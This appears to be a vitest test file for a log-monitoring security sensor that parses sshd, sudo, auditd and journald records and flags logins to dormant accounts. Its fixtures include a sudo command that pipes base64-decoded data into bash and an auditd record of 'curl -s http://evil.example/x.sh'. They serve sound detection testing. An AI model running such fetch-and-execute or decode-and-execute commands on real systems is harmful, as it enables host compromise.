import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { fileURLToPath } from 'node:url';
import { mkdtempSync, rmSync, copyFileSync, appendFileSync, mkdirSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LogSensor } from './log-sensor.js';
import { logSensorOptions } from './options.js';
import { parseJournalJson } from './journal.js';
import { memoryContext } from '../common/test-context.js';

// fileURLToPath, not .pathname: a checkout under a path with a space would read %20.
const fixtures = fileURLToPath(new URL('./fixtures/', import.meta.url));
let dir: string;
beforeEach(() => void (dir = mkdtempSync(join(tmpdir(), `vigil-logs-${process.pid}-`))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** Account files of the test's own (none of the host's): logins get no dormant verdict unless a test writes them. */
const accountsWith = (files: Record<string, string>) => logSensorOptions.parse({ accounts: { files } }).accounts;
const noAccounts = (d: string) => accountsWith({ passwd: join(d, 'none'), shadow: join(d, 'none'), lastlog: join(d, 'none'), wtmp: join(d, 'none') });

function sensor(files: string[], extra: Partial<ConstructorParameters<typeof LogSensor>[0]> = {}) {
  return new LogSensor({ files, journal: 'never', rescanMs: 60_000, startAt: 'beginning', accounts: noAccounts(dir), ...extra });
}

describe('logins and dormant accounts', () => {
  it('an sshd Accepted line for an account never used, with a password changed 400 days ago, says dormant', async () => {
    const auth = join(dir, 'auth.log');
    const day = Math.floor(Date.now() / 86_400_000);
    writeFileSync(join(dir, 'shadow'), `olduser:$y$j9T$h:${day - 400}:0:99999:7:::\nalice:$y$j9T$h:${day - 1}:0:99999:7:::\n`);
    writeFileSync(
      auth,
      [
        '2026-12-01T10:00:00.000000+00:00 lab sshd[10]: Accepted password for olduser from 127.0.0.1 port 50000 ssh2',
        '2026-12-01T10:00:00.100000+00:00 lab sshd[10]: pam_unix(sshd:session): session opened for user olduser(uid=1003) by (uid=0)',
        '2026-12-01T10:00:01.000000+00:00 lab sshd[11]: Accepted publickey for alice from 127.0.0.1 port 50001 ssh2: ED25519 SHA256:x',
        '',
      ].join('\n'),
    );
    const ctx = memoryContext(join(dir, 'state'));
    // an empty lastlog: kept by sshd and login, and nobody has logged in yet
    writeFileSync(join(dir, 'lastlog'), '');
    const s = sensor([auth], { accounts: accountsWith({ ...noAccounts(dir).files, shadow: join(dir, 'shadow'), lastlog: join(dir, 'lastlog') }) });
    await s.start(ctx);
    await s.stop();
    const logs = ctx.sink.events.map((e) => e.log!);
    expect(logs[0]!.fields).toMatchObject({ user: 'olduser', dormant: 'true', dormant_basis: 'password_age', idle_days: '400' });
    // the same login's PAM session line finds it moments old
    expect(logs[1]!.fields).toMatchObject({ target_user: 'olduser', dormant: 'false', idle_days: '0', dormant_basis: 'last_login' });
    expect(logs[2]!.fields).toMatchObject({ user: 'alice', dormant: 'false', idle_days: '1' });
  });
});

describe('log sensor on fixture logs', () => {
  it('sends every line raw, parsed where known, with offsets', async () => {
    const auth = join(dir, 'auth.log');
    copyFileSync(join(fixtures, 'auth.log'), auth);
    const ctx = memoryContext(join(dir, 'state'));
    const s = sensor([auth]);
    await s.start(ctx);
    await s.stop();
    const logs = ctx.sink.events.map((e) => e.log!);
    expect(logs).toHaveLength(29);
    expect(logs[0]).toMatchObject({ source: auth, parser: 'sshd', action: 'failed_password', program: 'sshd', hostname: 'web1', offset: 0 });
    expect(logs[27]).toMatchObject({ parser: '', action: '', program: 'kernel' });
    expect(logs[27]!.raw).toContain('something unparsed');
  });

  it("joins sudo's (command continued) lines to their command", async () => {
    const p = join(dir, 'secure');
    const payload = 'QUJD'.repeat(300);
    writeFileSync(
      p,
      [
        `Mar  1 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash -c 'echo ${payload.slice(0, 600)}`,
        `Mar  1 10:00:00 web1 sudo:    alice : (command continued) ${payload.slice(600)} | base64 -d | bash'`,
        '',
      ].join('\n'),
    );
    const ctx = memoryContext(join(dir, 'state'));
    const s = sensor([p]);
    await s.start(ctx);
    await s.stop();
    const logs = ctx.sink.events.map((e) => e.log!);
    expect(logs.map((l) => l.action)).toEqual(['command', 'command']);
    expect(logs[1]!.fields).toMatchObject({
      continued: 'true',
      user: 'alice',
      target_user: 'root',
      command_line: `/usr/bin/bash -c echo ${payload.slice(0, 600)} ${payload.slice(600)} | base64 -d | bash`,
    });
    expect(logs[1]!.raw).toContain('(command continued)');
  });

  it('caps lines and escapes control characters', async () => {
    const p = join(dir, 'evil.log');
    writeFileSync(p, `2024-03-01T10:00:00+00:00 h sshd[1]: Invalid user a\u001b[31mb from 10.0.0.1\n${'x'.repeat(5000)}\n`);
    const ctx = memoryContext(join(dir, 'state'));
    const s = sensor([p], { maxLineBytes: 1000 });
    await s.start(ctx);
    await s.stop();
    const logs = ctx.sink.events.map((e) => e.log!);
    expect(logs[0]!.raw).toContain('a\\x1b[31mb');
    expect(logs[0]!.fields).toMatchObject({ user: 'a\\x1b[31mb', src_ip: '10.0.0.1' });
    expect(logs[1]!.raw).toHaveLength(1000);
    expect(logs[1]!.truncated).toBe(true);
  });

  it('persists offsets: a restart neither re-sends nor skips', async () => {
    const p = join(dir, 'auth.log');
    writeFileSync(p, 'a\nb\n');
    const state = join(dir, 'state');
    const ctx1 = memoryContext(state);
    const s1 = sensor([p]);
    await s1.start(ctx1);
    await s1.stop();
    appendFileSync(p, 'c\n');
    const ctx2 = memoryContext(state);
    const s2 = sensor([p], { startAt: 'end' });
    await s2.start(ctx2);
    appendFileSync(p, 'd\n');
    s2.checkAll();
    await s2.stop();
    expect(ctx1.sink.events.map((e) => e.log!.raw)).toEqual(['a', 'b']);
    expect(ctx2.sink.events.map((e) => e.log!.raw)).toEqual(['c', 'd']);
  });

  it('groups audit records and emits auditd process starts', async () => {
    const a = join(dir, 'audit', 'audit.log');
    mkdirSync(join(dir, 'audit'));
    copyFileSync(join(fixtures, 'audit.log'), a);
    const ctx = memoryContext(join(dir, 'state'));
    const s = sensor([a]);
    await s.start(ctx);
    await s.stop();
    const logs = ctx.sink.events.filter((e) => e.log).map((e) => e.log!);
    expect(logs.map((l) => l.fields!.serial).sort()).toEqual(['501', '502', '503', '600']);
    expect(logs.every((l) => l.parser === 'auditd')).toBe(true);
    const procs = ctx.sink.events.filter((e) => e.processStart).map((e) => e.processStart!);
    expect(procs.map((p) => [p.pid, p.source, p.argv]).sort()).toEqual([
      [4001, 'auditd', ['curl', '-s', 'http://evil.example/x.sh']],
      [4200, 'auditd', ['python3', '-cprint(1)']],
    ]);
  });

  it('reports an unreadable file as a problem with its reason and keeps going', async () => {
    let bad = join(dir, 'locked.log');
    if (process.getuid?.() === 0) {
      // root reads any file; /proc/self/mem is a regular file whose read at offset 0 fails (EIO).
      bad = '/proc/self/mem';
    } else {
      writeFileSync(bad, 'x\n');
      chmodSync(bad, 0);
    }
    const ok = join(dir, 'ok.log');
    writeFileSync(ok, 'fine\n');
    const ctx = memoryContext(join(dir, 'state'));
    const s = sensor([bad, ok]);
    await s.start(ctx);
    s.checkAll();
    await s.stop();
    expect(ctx.sink.events.map((e) => e.log!.raw)).toEqual(['fine']);
    const p = ctx.problems.find((x) => x.source === bad)!;
    expect(p.code).toBe('VIGIL_ERR_SENSOR_SOURCE');
    expect(p.message).toMatch(/EIO|EACCES/);
  });
});

describe('log sensor, files added at run time', () => {
  it('tails a file pushed by the collector from then on', async () => {
    const a = join(dir, 'a.log');
    const b = join(dir, 'b.log');
    writeFileSync(a, 'a1\n');
    writeFileSync(b, 'old b\n');
    const ctx = memoryContext(join(dir, 'state'));
    const s = new LogSensor({ files: [a], journal: 'never', rescanMs: 60_000, startAt: 'end' });
    await s.start(ctx);
    expect(s.addFiles([b, a])).toEqual([b]);
    appendFileSync(b, 'b1\n');
    appendFileSync(a, 'a2\n');
    s.checkAll();
    await s.stop();
    expect(ctx.sink.events.map((e) => e.log!.raw).sort()).toEqual(['a2', 'b1']);
  });
});

describe('journal entries', () => {
  it('parses journalctl JSON, including byte-array messages', () => {
    const e = parseJournalJson(
      JSON.stringify({
        __CURSOR: 's=1;i=2',
        __REALTIME_TIMESTAMP: '1700000000000000',
        SYSLOG_IDENTIFIER: 'sshd',
        _COMM: 'sshd',
        _UID: '0',
        _PID: '7',
        MESSAGE: [104, 105],
      }),
    );
    expect(e).toMatchObject({ cursor: 's=1;i=2', realtimeUs: 1_700_000_000_000_000n, identifier: 'sshd', pid: '7', message: 'hi' });
    expect(parseJournalJson('{not json')).toBeUndefined();
    expect(parseJournalJson('{"MESSAGE":"no cursor"}')).toBeUndefined();
  });
});
